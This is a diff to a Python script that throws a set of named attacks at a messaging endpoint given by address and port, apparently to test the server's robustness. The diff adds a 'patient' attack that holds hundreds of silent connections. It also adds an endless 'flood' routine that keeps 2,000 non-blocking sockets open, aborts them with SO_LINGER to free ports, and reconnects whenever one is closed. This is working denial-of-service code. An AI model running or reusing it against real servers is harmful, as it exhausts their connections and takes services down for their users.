@@ -9,12 +9,14 @@ connections in a list until it is over, so that those which the other side does 
 import contextlib
 import os
 import resource
+import select
 import socket
 import struct
 import sys
 
-PATIENCE = 5  # seconds for one connection
+PATIENCE = 20  # seconds for one connection
 DESCRIPTORS = 8192
+FLOOD = 2000  # connections at a time
 
 
 class Target:
@@ -113,6 +115,16 @@ def half_open(target):
         target.connect(greeting(b"CURVE"))
 
 
+def patient(target):
+    """Hundreds that say nothing until the other side has had enough of each."""
+    for _ in range(500):
+        target.connect()
+    for connection in target.open:
+        with contextlib.suppress(OSError):
+            while connection.recv(4096):
+                pass
+
+
 def many(target):
     """Thousands, one after the other."""
     for _ in range(2000):
@@ -120,7 +132,25 @@ def many(target):
         target.close()
 
 
-ATTACKS = (port_scan, garbage, without_mechanism, with_password, wrong_keys, wrong_order, oversize, slow, half_open, many)
+def flood(target):
+    """Without an end, and none of ATTACKS: who is hung up comes again, and says nothing."""
+    waiting = select.poll()
+    by_fd = {}
+    while True:
+        while len(by_fd) < FLOOD:
+            connection = socket.socket()
+            connection.setblocking(False)
+            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # frees its port
+            connection.connect_ex(target.place)
+            by_fd[connection.fileno()] = connection
+            waiting.register(connection, select.POLLIN)
+        for fd, _ in waiting.poll():
+            waiting.unregister(fd)
+            by_fd.pop(fd).close()
+
+
+ATTACKS = (port_scan, garbage, without_mechanism, with_password, wrong_keys, wrong_order, oversize, slow, half_open,
+           patient, many)
 
 
 def attack(address, port, attacks=ATTACKS):
@@ -138,5 +168,5 @@ def attack(address, port, attacks=ATTACKS):
 
 
 if __name__ == "__main__":
-    chosen = [function for function in ATTACKS if function.__name__ in sys.argv[3:]]
+    chosen = [function for function in (*ATTACKS, flood) if function.__name__ in sys.argv[3:]]
     attack(sys.argv[1], sys.argv[2], chosen or ATTACKS)
